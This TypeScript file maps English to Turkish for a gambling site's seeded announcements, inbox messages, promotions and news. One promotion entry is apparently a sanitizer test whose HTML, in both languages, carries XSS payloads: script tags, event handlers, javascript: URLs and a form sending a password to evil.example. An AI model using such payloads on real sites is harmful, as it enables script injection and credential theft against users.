import { WELCOME_MESSAGES } from '#server/services/welcome-messages';
import { MERCHANTS } from './site';
import { ACCOUNT_TEXTS } from './translations-account';

/**
 * The seed's texts in Turkish, keyed by the English the seed writes (as translations.ts keys the
 * five other languages). A merchant of the other reading ('ty-en', product rule 3.15)
 * offers only TY and EN, and its TY is Turkish: translateSeededContent stores these under TY for
 * that merchant's rows instead of the Filipino. Same markup, links and amounts as the English,
 * `{symbol}` for the merchant's currency symbol, the terms of locales/TR/glossary.json
 * (yatırım, çekim, çevrim, kayıp bonusu, bahis iadesi, temsilci...). Percentages are written the
 * Turkish way (%1,5). The welcome messages (services/welcome-messages.ts) and the account texts
 * (translations-account.ts) carry their own Turkish, as `TR` beside their other languages.
 */
const TURKISH: Readonly<Record<string, string>> = {
  // Announcements (seed/messages.ts)
  'Welcome to the lobby: new slots every week': 'Lobiye hoş geldiniz: her hafta yeni slot oyunları',
  '<p>New games arrive every Monday.</p>': '<p>Her pazartesi yeni oyunlar geliyor.</p>',
  'Scheduled maintenance on Sunday 02:00-04:00': 'Pazar 02:00-04:00 arası planlı bakım',
  '<p>Wallet services pause during the window. Games already open keep running; deposits and withdrawals resume at 04:00.</p>':
    "<p>Bu sürede cüzdan hizmetleri durur. Açık oyunlar sürer; para yatırım ve çekim işlemleri 04:00'te yeniden başlar.</p>",
  'Deposit bonus for new players': 'Yeni oyunculara yatırım bonusu',
  '<p>Your <strong>first deposit</strong> gets a <b>100% match</b>, up to ￥1,888.</p><ul><li>Minimum deposit ￥100</li><li>Wagering 10× the bonus</li><li>Valid for 7 days after the deposit</li></ul><p><img src="/cdn/a/banners/home-1.svg" alt="Welcome bonus banner"></p><p>Full terms on the <a href="/m/activity">promotions page</a>.</p>':
    '<p><strong>İlk yatırımınız</strong> ￥1.888\'e kadar <b>%100 eşleşme</b> alır.</p><ul><li>En az yatırım ￥100</li><li>Bonusun 10× katı çevrim</li><li>Yatırımdan sonra 7 gün geçerli</li></ul><p><img src="/cdn/a/banners/home-1.svg" alt="Hoş geldin bonusu afişi"></p><p>Tüm koşullar <a href="/m/activity">promosyon sayfasında</a>.</p>',
  'Weekend cashback is live': 'Hafta sonu kayıp bonusu başladı',
  '<p>Up to <b>1.5%</b> cashback on every valid bet, paid on Monday.</p>': "<p>Her geçerli bahiste <b>%1,5</b>'e kadar kayıp bonusu, pazartesi ödenir.</p>",
  'Refer a friend and earn': 'Arkadaşını davet et, kazan',
  '<p>Invite friends with your share link and earn a reward for each friend who deposits.</p>':
    '<p>Paylaşım bağlantınla arkadaşlarını davet et, para yatıran her arkadaşın için ödül kazan.</p>',
  'Agent commission report ready': 'Temsilci komisyon raporu hazır',
  "<p>Last month's commissions are in your agent centre.</p>": '<p>Geçen ayın komisyonları temsilci merkezinizde.</p>',
  'New agent tiers from next month': 'Gelecek aydan itibaren yeni temsilci seviyeleri',
  '<p>Three tiers with a higher share for agents with more active members.</p>':
    '<p>Daha çok aktif üyesi olan temsilcilere daha yüksek pay veren üç seviye.</p>',
  'Marketing kit for agents': 'Temsilciler için pazarlama kiti',
  '<p>Banners and share texts in six languages are ready to download.</p>': '<p>Altı dilde afişler ve paylaşım metinleri indirmeye hazır.</p>',
  // Inbox messages (seed/messages.ts)
  'Deposit confirmed': 'Yatırım onaylandı',
  '<p>Your deposit of <b>{symbol}500.00</b> has been credited to your wallet.</p><p>Reference: DP-20431.</p>':
    '<p><b>{symbol}500,00</b> tutarındaki yatırımınız cüzdanınıza eklendi.</p><p>Referans: DP-20431.</p>',
  'Bonus credited': 'Bonus hesabınıza eklendi',
  '<p>A bonus of <b>{symbol}50.00</b> from <a href="/m/activity">Weekend cashback</a> is in your reward centre.</p>':
    '<p><a href="/m/activity">Hafta sonu kayıp bonusu</a> kapsamındaki <b>{symbol}50,00</b> bonus ödül merkezinizde.</p>',
  'New login to your account': 'Hesabınıza yeni giriş',
  '<p>Your account was signed in from a new device.</p><ul><li>Device: Android phone</li><li>Region: Manila</li></ul><p>Not you? Change your password at once.</p>':
    '<p>Hesabınıza yeni bir cihazdan giriş yapıldı.</p><ul><li>Cihaz: Android telefon</li><li>Bölge: Manila</li></ul><p>Siz değil misiniz? Şifrenizi hemen değiştirin.</p>',
  'Your weekly report': 'Haftalık raporunuz',
  '<p>Last week you placed <b>42 bets</b> in 6 games. Your favourite vendor: JILI.</p>':
    '<p>Geçen hafta 6 oyunda <b>42 bahis</b> yaptınız. Favori sağlayıcınız: JILI.</p>',
  'Security reminder': 'Güvenlik hatırlatması',
  '<p>We will never ask for your password or verification code. Keep them to yourself.</p>':
    '<p>Şifrenizi veya doğrulama kodunuzu asla sormayız. Bunları kimseyle paylaşmayın.</p>',
  '<p>Thank you for joining. Explore thousands of games and see the <a href="/m/activity">promotions</a> waiting for you.</p>':
    '<p>Katıldığınız için teşekkürler. Binlerce oyunu keşfedin ve sizi bekleyen <a href="/m/activity">promosyonlara</a> göz atın.</p>',
  'Commission paid': 'Komisyon ödendi',
  '<p>Your commission of <b>{symbol}1,250.00</b> for last month has been paid.</p>': '<p>Geçen aya ait <b>{symbol}1.250,00</b> komisyonunuz ödendi.</p>',
  // Promotions (seed/promotions.ts)
  'Welcome bonus: 100% on your first deposit': 'Hoş geldin bonusu: ilk yatırımınıza %100',
  '<p>Double your <strong>first deposit</strong> up to ￥1,888.</p><p><img src="/cdn/a/banners/promo-banner-1.svg" alt="Welcome bonus"></p><table><thead><tr><th>Deposit</th><th>Bonus</th><th>Turnover</th></tr></thead><tbody><tr><td>￥100</td><td>￥100</td><td>10x</td></tr><tr><td>￥500</td><td>￥500</td><td>12x</td></tr><tr><td>￥1,888</td><td>￥1,888</td><td>15x</td></tr></tbody></table><p>Read the <a href="/m/vip">VIP club rules</a> or <a href="https://example.com/terms" target="_blank" rel="noopener">full terms</a>.</p><h3>Terms</h3><ol><li>One bonus per member, account, IP and device.</li><li>Turnover 10x before withdrawal.</li></ol>':
    '<p><strong>İlk yatırımınızı</strong> ￥1.888\'e kadar ikiye katlayın.</p><p><img src="/cdn/a/banners/promo-banner-1.svg" alt="Hoş geldin bonusu"></p><table><thead><tr><th>Yatırım</th><th>Bonus</th><th>Çevrim</th></tr></thead><tbody><tr><td>￥100</td><td>￥100</td><td>10x</td></tr><tr><td>￥500</td><td>￥500</td><td>12x</td></tr><tr><td>￥1.888</td><td>￥1.888</td><td>15x</td></tr></tbody></table><p><a href="/m/vip">VIP kulübü kurallarını</a> veya <a href="https://example.com/terms" target="_blank" rel="noopener">tüm koşulları</a> okuyun.</p><h3>Koşullar</h3><ol><li>Her üye, hesap, IP ve cihaz için tek bonus.</li><li>Çekimden önce 10x çevrim.</li></ol>',
  'Deposit slip reward: send your receipt': 'Yatırım dekontu ödülü: dekontunuzu gönderin',
  '<p>Upload a picture of your deposit receipt and get 5% extra.</p><h3>Terms</h3><ol><li>One bonus per member, account, IP and device.</li><li>Turnover 10x before withdrawal.</li></ol>':
    '<p>Yatırım dekontunuzun fotoğrafını yükleyin, %5 ekstra kazanın.</p><h3>Koşullar</h3><ol><li>Her üye, hesap, IP ve cihaz için tek bonus.</li><li>Çekimden önce 10x çevrim.</li></ol>',
  'Daily reload 10%': 'Günlük %10 tekrar yatırım bonusu',
  '<p>Every day, your first reload earns 10% up to ￥300. No form to fill: just apply.</p>':
    "<p>Her gün ilk tekrar yatırımınız ￥300'e kadar %10 kazandırır. Form doldurmak yok: sadece başvurun.</p>",
  'Download the app, get ￥18': 'Uygulamayı indir, ￥18 kazan',
  '<p>Install the app from the <a href="/m/app">download page</a> and log in once.</p>':
    '<p>Uygulamayı <a href="/m/app">indirme sayfasından</a> kurun ve bir kez giriş yapın.</p>',
  'Slots tournament: weekly leaderboard': 'Slot turnuvası: haftalık sıralama',
  '<p>Sign up, then every valid bet on slots counts.</p><ul><li>1st: ￥8,888</li><li>2nd: ￥3,888</li><li>3rd: ￥1,888</li></ul>':
    '<p>Katılın; slot oyunlarındaki her geçerli bahis sayılır.</p><ul><li>1.: ￥8.888</li><li>2.: ￥3.888</li><li>3.: ￥1.888</li></ul>',
  'Live casino cashback 1%': 'Canlı casino kayıp bonusu %1',
  '<p>1% of every live casino valid bet comes back each Monday.</p>': '<p>Canlı casinodaki her geçerli bahis için %1 her pazartesi geri ödenir.</p>',
  'Lucky draw: share your winning hand': 'Şanslı çekiliş: kazanan elinizi paylaşın',
  '<p>Tell us the table and round, and attach a screenshot.</p>': '<p>Masayı ve eli bize yazın, bir ekran görüntüsü ekleyin.</p>',
  'Sports: first bet insurance': 'Spor: ilk bahis sigortası',
  '<p>Lose your first sports bet and get it back as a free bet, up to ￥500.</p>':
    "<p>İlk spor bahsinizi kaybederseniz ￥500'e kadar bedava bahis olarak geri alın.</p>",
  'Fishing frenzy weekend': 'Balık avı çılgınlığı hafta sonu',
  '<p>Double points on every fishing game, Saturday and Sunday.</p>': '<p>Cumartesi ve pazar her balık avı oyununda çift puan.</p>',
  'Lottery streak bonus': 'Piyango seri bonusu',
  '<p>Bet on 7 draws in a row and claim ￥77.</p>': '<p>Üst üste 7 çekilişe bahis yapın, ￥77 alın.</p>',
  'Unlimited rebate, every bet': 'Sınırsız bahis iadesi, her bahiste',
  '<p>Rebate paid daily on every valid bet, no cap, long term.</p>': '<p>Bahis iadesi her geçerli bahis için her gün, limitsiz ve uzun vadeli ödenir.</p>',
  'Safety test: this content must render inert': 'Güvenlik testi: bu içerik zararsız görünmeli',
  '<p>Harmless text survives.</p><script>window.__xss = "script"</script><img src="x" onerror="window.__xss = \'onerror\'" alt="broken"><a href="javascript:window.__xss = \'href\'">click</a><iframe src="javascript:window.__xss = \'iframe\'"></iframe><form action="https://evil.example/steal"><input name="password"><button>Send</button></form><div onclick="window.__xss = \'onclick\'" style="background:url(javascript:alert(1))">Tap</div><svg onload="window.__xss = \'svg\'"><circle r="4"></circle></svg>':
    '<p>Zararsız metin kalır.</p><script>window.__xss = "script"</script><img src="x" onerror="window.__xss = \'onerror\'" alt="bozuk resim"><a href="javascript:window.__xss = \'href\'">tıkla</a><iframe src="javascript:window.__xss = \'iframe\'"></iframe><form action="https://evil.example/steal"><input name="password"><button>Gönder</button></form><div onclick="window.__xss = \'onclick\'" style="background:url(javascript:alert(1))">Dokun</div><svg onload="window.__xss = \'svg\'"><circle r="4"></circle></svg>',
  // Home news (seed/vip.ts)
  'Up to 1.6% of net losses back every Monday, by VIP level.': "Her pazartesi VIP seviyesine göre net kayıpların %1,6'sına kadar iade.",
  'Daily sign-in rewards': 'Günlük giriş ödülleri',
  'Sign in every day and collect a bonus; the streak pays more.': 'Her gün giriş yapın ve bonus toplayın; seri sürdükçe daha çok kazanırsınız.',
  'Invite friends, earn together': 'Arkadaşlarını davet et, birlikte kazan',
  'Share your link and earn when your friends play.': 'Bağlantını paylaş, arkadaşların oynadıkça kazan.',
  'New slots every Monday': 'Her pazartesi yeni slotlar',
  'Twelve new slot games joined the lobby this week.': 'Bu hafta lobiye on iki yeni slot oyunu eklendi.',
  'Live dealers around the clock': '7/24 canlı krupiyeler',
  'Baccarat and roulette tables open 24 hours a day.': 'Bakara ve rulet masaları günün 24 saati açık.',
  'Scheduled maintenance finished': 'Planlı bakım tamamlandı',
  'All vendors are back online. Thank you for your patience.': 'Tüm sağlayıcılar yeniden çevrimiçi. Sabrınız için teşekkürler.',
  'Lottery draws every 5 minutes': 'Her 5 dakikada bir piyango çekilişi',
  'Fast draws all day long; see the results in the lottery lobby.': 'Gün boyu hızlı çekilişler; sonuçlar piyango lobisinde.',
  // Banner titles (seed/seed.ts; the home banners are also news or promotion titles above)
  'Weekend cashback up to 1.5%': "Hafta sonu %1,5'e kadar kayıp bonusu",
  'Watch our live hosts play': 'Canlı sunucularımızı izleyin',
  // Site settings (seed/site.ts): the footer's licence text and the download page's description
  'This site is operated by a company registered in Curacao and licensed by the Curacao Gaming Control Board. Players must be 18 or older.':
    "Bu site, Curaçao'da kayıtlı ve Curacao Gaming Control Board tarafından lisanslı bir şirket tarafından işletilmektedir. Oyuncular 18 yaşında veya daha büyük olmalıdır.",
  'Play anywhere': 'Her yerde oyna',
};

const SYMBOL = '{symbol}';

/** English -> Turkish for every seeded text, the welcome messages' and the account texts' too, as SEED_TEXTS holds them ({symbol} kept). */
export const SEED_TURKISH_TEMPLATES: ReadonlyMap<string, string> = new Map([
  ...Object.entries(TURKISH),
  // The account screens' texts and the welcome messages carry their Turkish beside their other languages.
  ...[...Object.values(ACCOUNT_TEXTS).flat(), ...WELCOME_MESSAGES.flatMap((m) => [m.title, m.content])].flatMap((t): [string, string][] =>
    t.TR === undefined ? [] : [[t.EN, t.TR]],
  ),
]);

/** The same with {symbol} written out for every merchant's currency symbol. */
function buildTurkish(): ReadonlyMap<string, string> {
  const symbols = [...new Set(MERCHANTS.map((m) => m.currencySymbol))];
  const catalog = new Map<string, string>();
  for (const [english, turkish] of SEED_TURKISH_TEMPLATES) {
    for (const symbol of english.includes(SYMBOL) ? symbols : [null]) {
      const key = symbol === null ? english : english.split(SYMBOL).join(symbol);
      catalog.set(key, symbol === null ? turkish : turkish.split(SYMBOL).join(symbol));
    }
  }
  return catalog;
}

export const SEED_TURKISH = buildTurkish();

/** The Turkish of a seeded English text ({symbol} written out), or undefined for a text the seed does not write. */
export function seedTurkish(english: string): string | undefined {
  return SEED_TURKISH.get(english);
}
